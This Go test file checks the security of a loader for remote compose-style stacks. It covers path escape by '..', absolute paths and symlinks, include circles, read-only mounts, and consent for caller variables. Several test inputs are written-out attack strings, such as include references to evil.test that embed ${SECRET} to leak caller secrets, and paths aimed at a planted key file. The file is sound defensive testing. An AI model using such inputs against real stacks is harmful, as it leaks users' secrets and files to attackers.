package stackfile

import (
	"context"
	"errors"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/orlop/orlop/spec"
)

// shelf has remote stacks by their references.
type shelf map[string]*spec.Remote

func (s shelf) Fetch(_ context.Context, reference, _ string) (*spec.Remote, error) {
	if r := s[reference]; r != nil {
		return r, nil
	}
	return nil, errors.New("nobody has " + reference)
}

// put writes the files of a remote, which PATH=TEXT give; a text "-> TARGET" is a link.
func (s shelf) put(t *testing.T, reference, path string, files map[string]string) *spec.Remote {
	t.Helper()
	r := &spec.Remote{Name: strings.TrimSuffix(reference, ":"+path), Digest: "d", Dir: t.TempDir(), Path: path}
	for name, text := range files {
		at := filepath.Join(r.Dir, name)
		if err := os.MkdirAll(filepath.Dir(at), 0o700); err != nil {
			t.Fatal(err)
		}
		if target, ok := strings.CutPrefix(text, "-> "); ok {
			if err := os.Symlink(target, at); err != nil {
				t.Fatal(err)
			}
			continue
		}
		write(t, at, text)
	}
	s[reference] = r
	return r
}

// TestRemoteStacks: their paths start from where they were fetched to, and what they say
// is told with the reference.
func TestRemoteStacks(t *testing.T) {
	s := shelf{}
	whole := s.put(t, "oci://r.test/app:1", "", map[string]string{
		"compose.yaml": "include: [more.yaml]\nservices:\n  web:\n    image: x\n    privileged: true\n    env_file: app.env\n    volumes: ['./conf:/conf', '/etc:/etc']\n    build: .\n",
		"more.yaml":    "services: {more: {image: '${X}'}}\n", "app.env": "A=1\n", ".env": "X=busybox\n", "conf/a": "", "Dockerfile": "FROM x\n",
	})
	part := s.put(t, "https://g.test/r.git#v1:sub", "sub", map[string]string{
		"sub/stack.yaml": "services:\n  base:\n    image: y\n    command: [a]\n    env_file: ../shared.env\n", "shared.env": "B=1\n",
	})
	dir := t.TempDir()
	write(t, filepath.Join(dir, "stack.yaml"), "include: [oci://r.test/app:1]\nservices:\n  own:\n    extends: {file: 'https://g.test/r.git#v1:sub', service: base}\n    privileged: true\n")
	p, _, err := Load(t.Context(), Options{Dir: dir, Name: "p", Remotes: s})
	if err != nil {
		t.Fatal(err)
	}
	web := p.Services["web"]
	if web.Build.Context != whole.Dir || *web.Environment["A"] != "1" || p.Services["more"].Image != "busybox" || *p.Services["own"].Environment["B"] != "1" {
		t.Errorf("web is %+v, own is %+v", web, p.Services["own"])
	}
	if m := web.Volumes; m[0].Source != filepath.Join(whole.Dir, "conf") || !m[0].ReadOnly || m[1].Source != "/etc" || m[1].ReadOnly {
		t.Errorf("the mounts are %+v", m)
	}
	for path, want := range map[string]*spec.Remote{"services.web.privileged": whole, "services.own.privileged": nil, "services.own.command": part} {
		if got := p.RemoteAt(p.Places.Nearest(path)); got != want {
			t.Errorf("%s is of %v, want %v (%s)", path, got, want, p.Places.Nearest(path))
		}
	}
	if got := p.Places.Nearest("services.web.privileged").String(); got != "oci://r.test/app:1: compose.yaml:5:17" {
		t.Errorf("its place is %s", got)
	}
}

// TestAStackFileIsRemote: with -f, the project's directory stays the caller's.
func TestAStackFileIsRemote(t *testing.T) {
	s := shelf{}
	r := s.put(t, "oci://r.test/app:1", "", map[string]string{"compose.yaml": "name: theirs\nservices: {web: {build: ./web}}\n", "web/Dockerfile": ""})
	dir := t.TempDir()
	write(t, filepath.Join(dir, "own.yaml"), "services: {web: {env_file: ./own.env}}\n")
	write(t, filepath.Join(dir, "own.env"), "A=1\n")
	var read []string
	p, _, err := Load(t.Context(), Options{Dir: dir, Files: []string{"oci://r.test/app:1", "own.yaml"}, Remotes: s, Reading: func(path string) { read = append(read, path) }})
	if err != nil {
		t.Fatal(err)
	}
	if p.Name != "theirs" || p.WorkingDir != dir || p.Services["web"].Build.Context != filepath.Join(r.Dir, "web") || *p.Services["web"].Environment["A"] != "1" {
		t.Errorf("the project is %s in %s, web %+v", p.Name, p.WorkingDir, p.Services["web"])
	}
	for _, path := range read {
		if strings.HasPrefix(path, r.Dir) {
			t.Errorf("%s is watched, which never changes", path)
		}
	}
}

// TestARemoteStackStaysInItsDirectory: whatever key names the path.
//
// Risk path escape: a remote stack names files outside of its directory, by "..", by absolute paths and by links, in each key that has a path
// Held: refused with the place; an absolute source of a mount is a privilege
// Risk include traversal: a remote stack includes and extends files of the caller's, or itself in a circle
// Held: refused with the place
func TestARemoteStackStaysInItsDirectory(t *testing.T) {
	home := t.TempDir()
	write(t, filepath.Join(home, "key"), "TOKEN=secret\n")
	write(t, filepath.Join(home, "x.yaml"), "services: {a: {image: x}}\n")
	service := func(key string) string { return "services: {a: {image: x, " + key + "}}\n" }
	for _, path := range []string{home + "/key", "../" + filepath.Base(home) + "/key", "link", "dir/key", "~/key"} {
		for text, about := range map[string]string{
			service("env_file: PATH"):                                             "env_file",
			service("label_file: PATH"):                                           "label_file",
			service("build: PATH"):                                                "build.context",
			service("build: {context: ., dockerfile: PATH}"):                      "build.dockerfile",
			service("build: {context: ., additional_contexts: {x: PATH}}"):        "additional_contexts",
			service("security_opt: ['seccomp=PATH']"):                             "security_opt",
			service("develop: {watch: [{path: PATH, action: sync, target: /x}]}"): "develop.watch",
			service("volumes: ['./PATH:/x']"):                                     "volumes",
			service("volumes: [{type: bind, source: PATH, target: /x}]"):          "volumes",
			service("extends: {file: PATH, service: a}"):                          "extends",
			service("secrets: [s]") + "secrets: {s: {file: PATH}}\n":              "secrets.s.file",
			service("configs: [s]") + "configs: {s: {file: PATH}}\n":              "configs.s.file",
			"include: [PATH]\n":                                                   "include",
			"include: [{path: ok.yaml, env_file: PATH}]\n":                        "include",
			"include: [{path: ok.yaml, project_directory: PATH}]\n":               "include",
		} {
			isMount := strings.Contains(text, "volumes")
			if isMount && (filepath.IsAbs(path) || path == "~/key") || path == "~/key" && about != "env_file" {
				continue // a privilege; a directory of that name
			}
			s := shelf{}
			s.put(t, "oci://r.test/app:1", "", map[string]string{
				"compose.yaml": strings.ReplaceAll(text, "PATH", path), "ok.yaml": "services: {b: {image: x}}\n", "Dockerfile": "",
				"link": "-> " + home + "/key", "dir": "-> " + home,
			})
			dir := t.TempDir()
			write(t, filepath.Join(dir, "stack.yaml"), "include: [oci://r.test/app:1]\nservices: {own: {image: x}}\n")
			_, diagnostics, err := Load(t.Context(), Options{Dir: dir, Name: "p", Remotes: s, Environ: map[string]string{"HOME": home}})
			said := diagnostics.Errors()
			if err == nil || len(said) == 0 || !strings.Contains(said[0].String(), "oci://r.test/app:1: compose.yaml:") || !strings.Contains(said[0].Message, "leads out") || !strings.Contains(said[0].Path, about) {
				t.Errorf("%s of %s: %v, %v", path, text, err, said)
			}
		}
	}
}

// TestLinksInARemoteStack: the files that are read without being named.
func TestLinksInARemoteStack(t *testing.T) {
	home := t.TempDir()
	write(t, filepath.Join(home, "key"), "IMAGE=secret\n")
	write(t, filepath.Join(home, "stack.yaml"), "services: {a: {image: x}}\n")
	for name, files := range map[string]map[string]string{
		".env":           {"compose.yaml": "services: {a: {image: '${IMAGE}'}}\n", ".env": "-> " + home + "/key"},
		"the stack file": {"compose.yaml": "-> " + home + "/stack.yaml"},
	} {
		s := shelf{}
		s.put(t, "oci://r.test/app:1", "", files)
		dir := t.TempDir()
		write(t, filepath.Join(dir, "stack.yaml"), "include: [oci://r.test/app:1]\nservices: {own: {image: x}}\n")
		_, diagnostics, err := Load(t.Context(), Options{Dir: dir, Name: "p", Remotes: s})
		if err == nil || !strings.Contains(diagnostics.Errors()[0].String(), "leads out of oci://r.test/app:1") {
			t.Errorf("%s: %v, %v", name, err, diagnostics)
		}
	}
}

// TestRemoteStacksThatIncludeEachOther end.
func TestRemoteStacksThatIncludeEachOther(t *testing.T) {
	s := shelf{}
	for from, to := range map[string]string{"1": "2", "2": "3", "3": "1"} {
		s.put(t, "oci://r.test/app:"+from, "", map[string]string{"compose.yaml": "include: [oci://r.test/app:" + to + "]\nservices: {s" + from + ": {image: x}}\n"})
	}
	dir := t.TempDir()
	write(t, filepath.Join(dir, "stack.yaml"), "include: [oci://r.test/app:1]\n")
	if got := loadSoon(t, Options{Dir: dir, Name: "p", Remotes: s}); !strings.Contains(got, "in a circle") {
		t.Errorf("said is %s", got)
	}
	for i := range 33 {
		s.put(t, fmt.Sprintf("oci://r.test/many:%d", i), "", map[string]string{"compose.yaml": fmt.Sprintf("include: [oci://r.test/many:%d]\n", i+1)})
	}
	write(t, filepath.Join(dir, "stack.yaml"), "include: [oci://r.test/many:0]\n")
	if got := loadSoon(t, Options{Dir: dir, Name: "p", Remotes: s}); !strings.Contains(got, "at most 32 remote ones") {
		t.Errorf("said is %s", got)
	}
}

// TestARemoteStackThatCannotBeFetched is told at its place, and leaves the name known.
func TestARemoteStackThatCannotBeFetched(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "stack.yaml"), "name: mine\ninclude:\n  - oci://r.test/app:1\nservices: {a: {image: x}}\n")
	_, diagnostics, err := Load(t.Context(), Options{Dir: dir, Remotes: shelf{}})
	var mistakes *spec.Mistakes
	if !errors.As(err, &mistakes) || mistakes.Project != "mine" || diagnostics.Errors()[0].String() != "stack.yaml:3:5: include[0]: nobody has oci://r.test/app:1" {
		t.Errorf("%v: %v", err, diagnostics)
	}
}

// TestNobodyWritesWhatWasFetched: not by its absolute path either, which a remote stack
// can know of another, and not as a volume.
//
// Risk path escape: a remote stack mounts what another was fetched to by its absolute path, to change it
// Held: it is mounted read-only, whichever way it is named; as a volume, and as what a build's cache is written to, it is refused with the place
func TestNobodyWritesWhatWasFetched(t *testing.T) {
	for _, text := range []string{
		"include: [oci://r.test/a:1]\nservices: {b: {image: x, volumes: ['DIR/conf:/x']}}\n",
		"include: [oci://r.test/a:1]\nservices: {b: {image: x, volumes: [{type: bind, source: DIR, target: /x}]}}\n",
		"include: [oci://r.test/a:1]\nservices: {b: {image: x, volumes: ['v:/x']}}\nvolumes: {v: {driver_opts: {type: none, o: bind, device: DIR}}}\n",
		"include: [oci://r.test/a:1]\nservices: {b: {image: x, volumes: ['v:/x']}}\nvolumes: {v: {driver_opts: {type: none, o: 'bind,rw', device: DIR/conf}}}\n",
		"services: {b: {image: x, volumes: ['v:/x']}}\nvolumes: {v: {driver_opts: {type: none, o: bind, device: ./conf}}}\n",
		"include: [oci://r.test/a:1]\nservices: {b: {build: {context: ., cache_to: ['type=inline', 'type=local,dest=DIR/conf']}}}\n",
		"include: [oci://r.test/a:1]\nservices: {b: {image: x}}\njobs: {j: {triggers: {manual: true}, build: {context: ., cache_to: ['type=local,mode=max,dest=DIR']}}}\n",
	} {
		s := shelf{}
		a := s.put(t, "oci://r.test/a:1", "", map[string]string{"compose.yaml": "services: {a: {image: x}}\n", "conf/a": ""})
		s.put(t, "oci://r.test/b:1", "", map[string]string{"compose.yaml": strings.ReplaceAll(text, "DIR", a.Dir), "conf/a": ""})
		dir := t.TempDir()
		write(t, filepath.Join(dir, "stack.yaml"), "include: [oci://r.test/b:1]\n")
		p, diagnostics, err := Load(t.Context(), Options{Dir: dir, Name: "p", Remotes: s})
		isRefused := err != nil && strings.HasPrefix(diagnostics.Errors()[0].String(), "oci://r.test/b:1: compose.yaml:")
		if !isRefused && (err != nil || strings.Contains(text, "device") || strings.Contains(text, "cache_to") || !p.Services["b"].Volumes[0].ReadOnly) {
			t.Errorf("%s: %v, %v", text, err, diagnostics)
		}
	}
	s := shelf{}
	r := s.put(t, "oci://r.test/a:1", "", map[string]string{"conf/a": ""})
	write(t, filepath.Join(r.Dir, "compose.yaml"), "services: {a: {image: x, volumes: ['"+r.Dir+"/conf:/x']}}\n")
	dir := t.TempDir()
	write(t, filepath.Join(dir, "stack.yaml"), "include: [oci://r.test/a:1]\n")
	p, _, err := Load(t.Context(), Options{Dir: dir, Name: "p", Remotes: s})
	if err != nil || !p.Services["a"].Volumes[0].ReadOnly {
		t.Errorf("its own directory: %v, %+v", err, p)
	}
}

// TestWhatARemoteStackIsTold: the variables of the caller's that its files name, however
// they do; not those that it brings itself, and not what the caller's own file names.
//
// Risk remote include: a remote stack names variables of the caller's environment, which may be secrets, and sends them on
// Held: each that is set and that it is told needs a yes, by its name
func TestWhatARemoteStackIsTold(t *testing.T) {
	s := shelf{}
	s.put(t, "oci://r.test/app:1", "", map[string]string{
		"compose.yaml": "include: [more.yaml]\nservices:\n  web:\n    image: 'x:${TAG:-1}'\n    environment: [BARE, 'IN=${TEXT}', 'DEFAULT=${NOBODYS:-x}', 'OWN=${BROUGHT}']\n    env_file: app.env\n    build: {context: ., args: [ARGUED, NOBODYS]}\n" +
			"    post_start: [{command: [a], environment: [HOOKED]}]\nsecrets: {s: {environment: SECRET}}\n",
		"more.yaml": "services: {more: {image: y, environment: [INCLUDED]}}\n", "app.env": "FILED\nX=${EXPANDED}\n", ".env": "BROUGHT=1\nY=${DOTTED}\n",
	})
	own := s.put(t, "oci://r.test/quiet:1", "", map[string]string{"compose.yaml": "services: {quiet: {image: z}}\n"})
	dir, environ := t.TempDir(), map[string]string{}
	for _, name := range []string{"TAG", "BARE", "TEXT", "HOOKED", "SECRET", "INCLUDED", "FILED", "EXPANDED", "DOTTED", "ARGUED", "MINE"} {
		environ[name] = "v"
	}
	write(t, filepath.Join(dir, "stack.yaml"), "include: [oci://r.test/app:1, oci://r.test/quiet:1]\nservices: {own: {image: '${MINE}', environment: [BARE], secrets: [s]}}\n")
	p, _, err := Load(t.Context(), Options{Dir: dir, Name: "p", Remotes: s, Environ: environ})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"ARGUED", "BARE", "DOTTED", "EXPANDED", "FILED", "HOOKED", "INCLUDED", "SECRET", "TAG", "TEXT"}
	if got := slices.Sorted(maps.Keys(p.Remotes[0].Variables)); !slices.Equal(got, want) {
		t.Errorf("it is told %v, want %v", got, want)
	}
	const file = "oci://r.test/app:1: compose.yaml"
	for name, place := range map[string]spec.Place{
		"TAG": {File: file, Line: 4, Column: 12}, "TEXT": {File: file, Line: 5, Column: 25}, "BARE": {File: file, Line: 5, Column: 19}, "FILED": {File: "oci://r.test/app:1: app.env"},
		"SECRET": {File: file, Line: 9, Column: 28},
	} {
		if got := p.Remotes[0].Variables[name]; got != place {
			t.Errorf("%s is told at %v, want %v", name, got, place)
		}
	}
	if len(own.Variables) > 0 {
		t.Errorf("the other is told %v", own.Variables)
	}
}

// asked notes which references were fetched.
type asked struct {
	shelf
	references []string
}

func (a *asked) Fetch(ctx context.Context, reference, dir string) (*spec.Remote, error) {
	a.references = append(a.references, reference)
	return a.shelf.Fetch(ctx, reference, dir)
}

// TestAReferenceOfARemoteStackTellsNothing of the caller: it is fetched before any yes.
//
// Risk remote include: a remote stack includes or extends an address that has a variable of the caller's in it
// Held: refused at its place, and nobody is asked; what the remote stack brings itself may be in it
func TestAReferenceOfARemoteStackTellsNothing(t *testing.T) {
	const commit = "0123456789012345678901234567890123456789"
	for text, want := range map[string]string{
		"include: ['https://evil.test/${SECRET}.git#" + commit + "']\n":                                          "compose.yaml:1:11: include[0]: ",
		"include: [{path: 'oci://evil.test/a:${SECRET}'}]\n":                                                     "compose.yaml:1:18: include[0]: ",
		"include: [{path: [a.yaml, 'oci://evil.test/a:$SECRET']}]\n":                                             "compose.yaml:1:27: include[0]: ",
		"include:\n- 'oci://evil.test/a:${NOBODYS:-${SECRET}}'\n":                                                "compose.yaml:2:3: include[0]: ",
		"include: ['oci://evil.test/a:x${SECRET:+y}']\n":                                                         "compose.yaml:1:11: include[0]: ",
		"include: ['github.com/evil/${SECRET}']\n":                                                               "compose.yaml:1:11: include[0]: ",
		"x-a: &a 'oci://evil.test/a:${SECRET}'\ninclude: [*a]\n":                                                 "include[0]: ",
		"x-a: &a ['oci://evil.test/a:${SECRET}']\ninclude: *a\n":                                                 "include[0]: ",
		"x-a: &a {path: 'oci://evil.test/a:${SECRET}'}\ninclude: [{<<: *a, env_file: a.env}]\n":                  "include[0]: ",
		"x-a: &a {extends: {file: 'oci://evil.test/a:${SECRET}', service: x}}\nservices: {a: {<<: *a}, b: *a}\n": "extends: ",
		"services: {a: {extends: {file: 'oci://evil.test/a:${SECRET}', service: x}}}\n":                          "services.a.extends: ",
		"include: [more.yaml]\n":                                   "more.yaml:1:11: include[0]: ",
		"include: [{path: more.yaml, env_file: b.env}]\n":          "more.yaml:1:11: include[0]: ",
		"include: [{path: sent.yaml, env_file: [a.env, b.env]}]\n": "sent.yaml:1:11: include[0]: ",
		"include: ['oci://good.test/a:${BROUGHT}', 'oci://good.test/a:${NOBODYS:-1}', 'oci://good.test/a:$$SECRET', a.yaml]\n": "",
		"include: [{path: 'a.yaml', env_file: '${NOBODYS:-a}.env'}]\n":                                                         "",
	} {
		s := &asked{shelf: shelf{}}
		s.put(t, "oci://r.test/app:1", "", map[string]string{
			"compose.yaml": text, ".env": "BROUGHT=1\nSENT=${SECRET}\n", "a.env": "A=${SECRET}\n", "b.env": "SENT=${A}x${SECRET}\n",
			"a.yaml": "services: {a: {image: x}}\n", "more.yaml": "include: ['oci://evil.test/a:${SENT}']\n", "sent.yaml": "include: ['oci://evil.test/a:${SENT}']\n",
		})
		for _, tag := range []string{"1", "$SECRET"} {
			s.put(t, "oci://good.test/a:"+tag, "", map[string]string{"compose.yaml": "services: {g: {image: x}}\n"})
		}
		dir := t.TempDir()
		write(t, filepath.Join(dir, "stack.yaml"), "include: [oci://r.test/app:1]\nservices: {own: {image: x}}\n")
		_, diagnostics, err := Load(t.Context(), Options{Dir: dir, Name: "p", Remotes: s, Environ: map[string]string{"SECRET": "hunter2"}})
		said := fmt.Sprint(err)
		if len(diagnostics.Errors()) > 0 {
			said = diagnostics.Errors()[0].String()
		}
		isRefused := strings.HasPrefix(said, "oci://r.test/app:1: ") && strings.Contains(said, want) && strings.Contains(said, "variable")
		if want == "" && err != nil || want != "" && !isRefused || strings.Contains(fmt.Sprint(s.references, diagnostics), "hunter2") {
			t.Errorf("%s: asked are %q, said is %s", text, s.references, said)
		}
	}
}
